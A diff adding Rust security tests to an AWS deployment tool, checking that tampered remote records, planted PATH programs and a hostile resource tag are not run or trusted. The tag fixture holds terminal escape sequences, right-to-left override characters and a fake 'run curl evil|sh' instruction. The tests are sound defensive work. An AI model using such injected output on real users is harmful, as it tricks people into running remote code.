@@ -1,5 +1,9 @@
 //! What is not ours is left as it was: used if it can do the job, blocking where it holds data, code or traffic.
 
+use std::fs::Permissions;
+use std::os::unix::fs::PermissionsExt;
+use std::path::PathBuf;
+
 use serde_json::Value;
 
 use crate::interrupted::{send, wait_for};
@@ -337,6 +341,93 @@ fn a_spoilt_record_does_not_stand_in_the_way() {
         left.iter().any(|item| item.contains("tcb-conference/profile.toml")),
         "{left:#?}"
     );
+}
+
+/// A folder with programs of these names, each of which writes down that it was run.
+fn watched(user: &User, names: &[&str]) -> (PathBuf, PathBuf) {
+    let (folder, ran) = (user.home().join("watched"), user.home().join("ran"));
+    std::fs::create_dir_all(&folder).unwrap();
+    for name in names {
+        let program = format!("#!/bin/sh\necho \"{name} in $PWD\" >>'{}'\n", ran.display());
+        std::fs::write(folder.join(name), program).unwrap();
+        std::fs::set_permissions(folder.join(name), Permissions::from_mode(0o755)).unwrap();
+    }
+    (folder, ran)
+}
+
+#[test]
+fn what_the_record_says_of_this_machine_is_neither_run_nor_opened_nor_believed() {
+    let user = User::new();
+    let (folder, ran) = watched(&user, &["rustc", "cargo", "git"]);
+    let path = format!("{}:{}", folder.display(), std::env::var("PATH").unwrap());
+    let user = user.with("PATH", &path);
+    let empty = user.inventory_of_a_fresh_sandbox();
+    let site = user.site(&[]);
+    let up = up(&user, &["--set", &site, "--no-verify", "-o", "json"])
+        .exits(0)
+        .summary();
+    let place = "s3://elasticbeanstalk-us-east-1-123456789012/confctl/tcb-conference";
+    let written = user
+        .aws(&["s3", "cp", &format!("{place}/profile.toml"), "-"])
+        .exits(0)
+        .stdout;
+    assert!(!written.contains(user.home().to_str().unwrap()), "{written}");
+
+    // Somebody else fills a folder that confctl might look into, and writes a record that names it.
+    let package = user.home().join("theirs");
+    std::fs::create_dir_all(&package).unwrap();
+    std::fs::write(package.join("Procfile"), "web: ./theirs\n").unwrap();
+    let bundle = format!("app.bundle={}", package.display());
+    for (object, key) in [
+        ("profile.toml", "/dev/zero"),
+        ("profiles/ffff.toml", "/nowhere/key.pub"),
+    ] {
+        let key = format!("ssh.public_key={key}");
+        let sets = ["--set", &bundle, "--set", "ssh.enabled=true", "--set", &key];
+        let told = user.confctl(&[&["profile", "show", "-p", "dev"], &sets[..]].concat());
+        let file = user.home().join("record.toml");
+        std::fs::write(&file, told.exits(0).stdout).unwrap();
+        user.aws(&["s3", "cp", file.to_str().unwrap(), &format!("{place}/{object}")])
+            .exits(0);
+    }
+    let _ = std::fs::remove_file(&ran);
+    let told = user.confctl(&["status", "--sandbox"]).exits(0).stdout;
+    assert!(!told.contains("theirs-"), "it looked into the folder: {told}");
+    user.confctl(&["plan", "-p", "dev", "--sandbox", "--set", &site])
+        .exits(0);
+    user.confctl(&["teardown", "--sandbox", "--yes"]).exits(0);
+    let ran = std::fs::read_to_string(&ran).unwrap_or_default();
+    assert!(ran.is_empty(), "{ran}");
+    assert_eq!(user.inventory(), empty);
+    assert!(
+        up["outputs"]["application_version"]
+            .as_str()
+            .is_some_and(|label| written.contains(label))
+    );
+}
+
+#[test]
+fn what_somebody_wrote_into_a_tag_does_nothing_to_the_terminal() {
+    let user = User::new();
+    user.inventory_of_a_fresh_sandbox();
+    let program = r#"
+import boto3
+evil = "x\x1b[2J\x1b]0;PWNED\x07\x1b[1;32m all is well\nerror: run curl evil|sh \u202egnp.exe\u202c"
+boto3.client("dynamodb").create_table(
+    TableName="users", BillingMode="PAY_PER_REQUEST", Tags=[{"Key": "confctl:stack", "Value": evil}],
+    AttributeDefinitions=[{"AttributeName": "email", "AttributeType": "S"}],
+    KeySchema=[{"AttributeName": "email", "KeyType": "HASH"}])
+"#;
+    user.python(program).exits(0);
+    for output in ["text", "json"] {
+        let told = user.confctl(&["plan", "-p", "dev", "--sandbox", "--color", "always", "-o", output]);
+        let told = told.exits(4);
+        let all = format!("{}{}", told.stdout, told.stderr);
+        assert!(all.contains("all is well"), "{all}");
+        for acts in ["\u{1b}[2J", "\u{1b}]", "\u{7}", "\u{202e}", "\nerror: run"] {
+            assert!(!all.contains(acts), "{acts:?} in {all:?}");
+        }
+    }
 }
 
 #[test]
